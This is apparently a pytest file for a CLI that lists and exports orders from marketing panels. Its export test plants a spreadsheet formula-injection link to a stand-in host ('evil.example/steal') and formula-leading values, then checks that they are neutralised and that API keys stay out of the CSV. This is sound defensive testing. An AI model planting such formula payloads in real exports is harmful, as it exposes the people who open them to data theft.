"""smmdesk-cli orders (filters, search, limit) and export, over two panels of the demo."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from smmdesk.demo.server import DemoPanel
from tests.cli.test_basics import Cli

FORMULA_LINK = '=HYPERLINK("http://evil.example/steal")'


@pytest.fixture(scope="module")
def demo_panel() -> Iterator[DemoPanel]:
    """One panel for the module: the tests only read what the fixture placed."""
    with DemoPanel(clock_speed=0) as panel:
        yield panel


@pytest.fixture(scope="module")
def two_panels(tmp_path_factory: pytest.TempPathFactory, demo_panel: Any) -> tuple[Cli, str]:
    """main (the demo's USD account) and second (EUR) with five orders between them."""
    cli = Cli(tmp_path_factory.mktemp("two-panels"))
    second_key = demo_panel.add_account(balance=Decimal("40"), currency="EUR")
    cli.add_panel("main", demo_panel.url, demo_panel.key)
    cli.add_panel("second", demo_panel.url, second_key)

    def add(panel: str, link: str, reference: str, code: int = 0) -> None:
        args = ("order", "add", panel, "2", f"link={link}", "quantity=100", "--yes")
        cli(*args, "--reference", reference, code=code)

    add("main", FORMULA_LINK, "+SUM(1,2)")
    add("main", "https://instagram.com/p/A1", "Jürgen's shop #77")
    add("second", "https://instagram.com/p/B2", "-1")
    demo_panel.set_balance(Decimal("0"), key=second_key)
    add("second", "https://instagram.com/p/B3", "@cmd", code=1)  # failed: no funds
    on_site = demo_panel.place_on_site("2", {"link": "https://x.com/p#complete", "quantity": "50"})
    demo_panel.advance(400)
    cli("order", "track", "main", on_site)  # Completed, as the panel says
    return cli, second_key


def test_orders_filters_search_and_limit(two_panels: tuple[Cli, str]) -> None:
    cli, _ = two_panels
    everything = cli.json("orders")
    assert [o["id"] for o in everything] == [5, 4, 3, 2, 1]  # newest first
    assert [o["state"] for o in everything] == ["tracked", "failed", "placed", "placed", "placed"]

    assert [o["id"] for o in cli.json("orders", "--panel", "second")] == [4, 3]
    assert [o["id"] for o in cli.json("orders", "--status", "Done")] == [5]  # = Completed
    pending_or_done = cli.json("orders", "--status", "pending", "--status", "completed")
    assert [o["id"] for o in pending_or_done] == [5, 3, 2, 1]
    assert [o["id"] for o in cli.json("orders", "--state", "failed")] == [4]
    assert [o["id"] for o in cli.json("orders", "--search", "jürgen")] == [2]
    assert [o["id"] for o in cli.json("orders", "--search", "p/B")] == [4, 3]

    limited = cli("orders", "--limit", "2")
    assert limited.err_lines == ["smmdesk: showing the newest 2 of 5 orders; --limit 0 shows all."]
    rows = limited.out.splitlines()
    assert rows[0].split() == [
        "ID", "PANEL", "REMOTE", "SERVICE", "QTY", "COST", "STATUS", "STATE", "CREATED", "LINK",
    ]  # fmt: skip
    assert rows[1].split()[:2] == ["#5", "main"] and "Completed" in rows[1]
    assert rows[2].split()[:2] == ["#4", "second"]
    assert "Not placed" in rows[2] and "EUR" not in rows[2]  # refused: it cost nothing
    assert len(rows) == 3

    wrong = cli("orders", "--status", "shipped", code=1)
    assert wrong.err_lines[0].startswith('smmdesk: status: "shipped" is not an order status.')


def test_export_is_excel_safe_and_holds_no_key(two_panels: tuple[Cli, str], tmp_path: Path) -> None:
    cli, second_key = two_panels
    path = tmp_path / "orders.csv"
    assert cli("export", path).out.strip() == f"Exported 5 order(s) to {path}."
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfid,panel,remote_id,service,")  # UTF-8 with BOM
    assert data.count(b"\r\n") == 6 and b"\n" not in data.replace(b"\r\n", b"")
    assert "Jürgen's shop #77".encode() in data
    for key in (second_key, cli.keys()["main"]):
        assert key.encode() not in data

    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [r["id"] for r in rows] == ["1", "2", "3", "4", "5"]
    assert rows[0]["link"] == "'" + FORMULA_LINK  # shown as text, never run
    assert [r["reference"] for r in rows[:4]] == ["'+SUM(1,2)", "Jürgen's shop #77", "'-1", "'@cmd"]
    assert rows[0]["expected_cost"] == "0.03500" and rows[0]["currency"] == "USD"
    assert rows[4]["status"] == "Completed" and rows[3]["state"] == "failed"

    filtered = cli.json(
        "export", tmp_path / "second.csv", "--panel", "second", "--status", "pending"
    )
    assert filtered == {"file": str(tmp_path / "second.csv"), "count": 1}
    nowhere = cli("export", tmp_path / "no-such-folder" / "x.csv", code=1)
    assert nowhere.err.startswith("smmdesk: smmdesk could not write x.csv")
